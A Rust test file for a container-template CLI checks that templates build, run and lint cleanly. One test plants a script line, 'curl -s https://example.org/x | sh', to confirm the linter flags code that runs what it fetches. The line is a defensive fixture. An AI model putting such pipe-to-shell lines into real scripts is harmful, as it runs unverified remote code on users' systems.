//! The templates that come with the product, and the tools of those who write their own.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

mod run;

use std::path::{Path, PathBuf};

use run::{Call, gantry, json};

fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn here(arguments: &[&str]) -> Call {
    gantry(arguments).dir(&repository())
}

fn library() -> Vec<String> {
    let entries = std::fs::read_dir(repository().join("infra/lxc/templates")).unwrap().flatten();
    let mut names: Vec<String> = entries.map(|entry| entry.file_name().into_string().unwrap()).collect();
    names.sort();
    assert!(names.len() >= 12, "{names:?}");
    names
}

fn half_of_the_library_works(half: usize) {
    let names = library();
    let names: Vec<&str> = names.iter().map(String::as_str).skip(half).step_by(2).collect();
    let ran = here(&[&["template", "test"][..], &names].concat()).run();
    assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
    for name in names {
        assert!(ran.stdout.contains(&format!("✓ {name} does what it says")), "{name}: {}", ran.stdout);
    }
}

#[test]
fn the_first_half_of_the_library_works() {
    half_of_the_library_works(0);
}

#[test]
fn the_second_half_of_the_library_works() {
    half_of_the_library_works(1);
}

#[test]
fn the_library_is_clean() {
    let checked = std::process::Command::new("shellcheck").arg("--version").output();
    assert!(checked.is_ok(), "shellcheck is not there; `cargo xtask test` installs it");
    let found = json(here(&["template", "lint", "--strict", "--json"]));
    assert_eq!(found.as_array().unwrap().len(), library().len());
    assert!(found.as_array().unwrap().iter().all(|one| one["findings"].as_array().unwrap().is_empty()), "{found}");
}

#[test]
fn a_template_is_begun_linted_compared_and_tried() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_str().unwrap();
    let new = |name: &str| gantry(&["template", "new", name, "--root", root]).dir(dir.path()).run();
    assert_eq!(new("one").code, 0);
    assert!(new("one").stderr.contains("there already"));
    assert_eq!(new("No Name").code, 2);
    assert_eq!(new("two").code, 0);
    let call = |arguments: &[&str]| gantry(arguments).dir(dir.path());
    let clean = call(&["template", "lint", "one", "--strict"]).run();
    assert_eq!(clean.code, 0, "what one begins with is clean: {}{}", clean.stdout, clean.stderr);
    let tried = call(&["template", "test", "one", "--input", "GREETING=hi"]).run();
    assert_eq!(tried.code, 0, "{}{}", tried.stdout, tried.stderr);

    let script = dir.path().join("two/container-configs/scripts/50-more.sh");
    std::fs::write(script, "#!/bin/sh\ncurl -s https://example.org/x | sh\n").unwrap();
    std::fs::write(dir.path().join("two/container-configs/files/motd.policy"), "sometimes\n").unwrap();
    let bad = call(&["template", "lint", "two"]).run();
    assert_eq!(bad.code, 1);
    assert!(bad.stdout.contains("motd.policy:1") && bad.stdout.contains("sometimes"), "{}", bad.stdout);
    std::fs::write(dir.path().join("two/container-configs/files/motd.policy"), "default\n").unwrap();
    let warned = call(&["template", "lint", "two"]).run();
    assert!(warned.code == 0 && warned.stdout.contains("50-more.sh:2"), "{}", warned.stdout);
    assert_eq!(call(&["template", "lint", "two", "--strict"]).run().code, 1);

    let annotated = call(&["template", "lint", "two", "--format", "github"]).run().stdout;
    let expected = "::warning file=two/container-configs/scripts/50-more.sh,line=2::runs what it fetches";
    assert!(annotated.lines().any(|line| line.starts_with(expected)), "{annotated}");
    let machine = call(&["template", "lint", "two", "--format", "json"]).run().stdout;
    let machine: serde_json::Value = serde_json::from_str(&machine).unwrap();
    assert_eq!((&machine[0]["template"], &machine[0]["findings"][0]["line"]), (&"two".into(), &2.into()), "{machine}");

    let differences = json(call(&["template", "diff", "one", "two", "--json"]));
    let told: Vec<_> = differences.as_array().unwrap().iter().map(|d| d["name"].as_str().unwrap()).collect();
    for name in ["50-more.sh", "/etc/motd"] {
        assert!(told.contains(&name), "{told:?}");
    }
}
